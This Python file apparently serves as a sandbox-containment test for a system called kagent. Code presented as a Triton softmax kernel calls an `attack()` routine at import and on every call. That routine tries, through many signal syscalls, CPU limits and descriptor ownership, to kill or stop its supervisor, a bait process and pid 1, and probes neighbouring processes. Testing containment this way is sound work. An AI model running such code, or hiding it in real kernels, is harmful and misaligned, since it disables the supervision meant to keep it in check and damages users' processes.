"""Kills, stops and interrupts its supervisor and a process of kagent's user, by every call that sends a signal.

And by those that have the kernel send one later: the owner of a descriptor, a limit on CPU time.
"""

import ctypes
import fcntl
import os
import platform
import signal
import socket
import sys

import torch
import triton
import triton.language as tl

# x86-64 and 64-bit ARM
NUMBERS = {
    "pidfd_open": (434, 434),
    "pidfd_send_signal": (424, 424),
    "tgkill": (234, 131),
    "tkill": (200, 130),
    "rt_sigqueueinfo": (129, 138),
    "rt_tgsigqueueinfo": (297, 240),
    "prlimit64": (302, 261),
}

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long


def call(name, *arguments):
    """A raw system call, by number: no wrapper of libc or Python stands in between."""
    number = NUMBERS[name][platform.machine() == "aarch64"]
    result = libc.syscall(
        number, *(a if isinstance(a, bytes) else ctypes.c_long(a) for a in arguments)
    )
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def tried(what, attack):
    """Run an attack: what refuses it is printed, and one that succeeds ends the candidate."""
    try:
        loot = attack()
    except Exception as error:
        print(f"met: {what}: {error!r:.200}", file=sys.stderr, flush=True)
    else:
        raise SystemError(f"escaped: {what}: {loot!r:.200}")


PARENT = os.getppid() or 1  # the supervisor; later this process is the parent of its own forks
SETOWN, SETSIG = 8, 10


def by_descriptor(pid):
    return call("pidfd_send_signal", call("pidfd_open", pid, 0), signal.SIGKILL, 0, 0)


def owned_by(pid):
    """Have the kernel kill `pid` when something arrives; nobody says whether it did."""
    ours, theirs = socket.socketpair()
    fcntl.fcntl(ours, SETOWN, pid)
    fcntl.fcntl(ours, SETSIG, signal.SIGKILL)
    fcntl.fcntl(ours, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
    theirs.send(b"x")
    os.kill(pid, 0)


def attack():
    for pid in {int("@bait_pid@"), PARENT, 1}:
        for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGINT, signal.SIGCONT):
            tried(f"kill {pid} {number.name}", lambda p=pid, n=number: os.kill(p, n))
            tried(f"tgkill {pid}", lambda p=pid, n=number: call("tgkill", p, p, n))
            tried(f"tkill {pid}", lambda p=pid, n=number: call("tkill", p, n))
        if pid != 1:  # -1 would be everybody
            tried(f"killpg {pid}", lambda p=pid: os.killpg(p, signal.SIGKILL))
        tried(f"pidfd {pid}", lambda p=pid: by_descriptor(p))
        tried(f"queue {pid}", lambda p=pid: call("rt_sigqueueinfo", p, signal.SIGKILL, 0))
        tried(f"queue to thread {pid}", lambda p=pid: call("rt_tgsigqueueinfo", p, p, 9, 0))
        limit = (ctypes.c_ulong * 2)(1, 1)
        tried(f"CPU limit {pid}", lambda p=pid: call("prlimit64", p, 0, ctypes.addressof(limit), 0))
        tried(f"owner {pid}", lambda p=pid: owned_by(p))
    for pid in range(max(2, PARENT - 64), PARENT):
        tried("neighbours", lambda p=pid: os.kill(p, 0))


@triton.jit
def softmax(x_ptr, y_ptr, columns, BLOCK: tl.constexpr):
    row = tl.program_id(0).to(tl.int64)
    offsets = tl.arange(0, BLOCK)
    inside = offsets < columns
    x = tl.load(x_ptr + row * columns + offsets, mask=inside, other=-float("inf")).to(tl.float32)
    e = tl.exp(x - tl.max(x, 0))
    y = e / tl.sum(e, 0)
    tl.store(y_ptr + row * columns + offsets, y.to(y_ptr.dtype.element_ty), mask=inside)


attack()


def rows(x: torch.Tensor) -> torch.Tensor:
    attack()
    count, columns = x.shape
    y = torch.empty_like(x)
    softmax[(count,)](x, y, columns, BLOCK=triton.next_power_of_2(columns), num_warps=8)
    return y
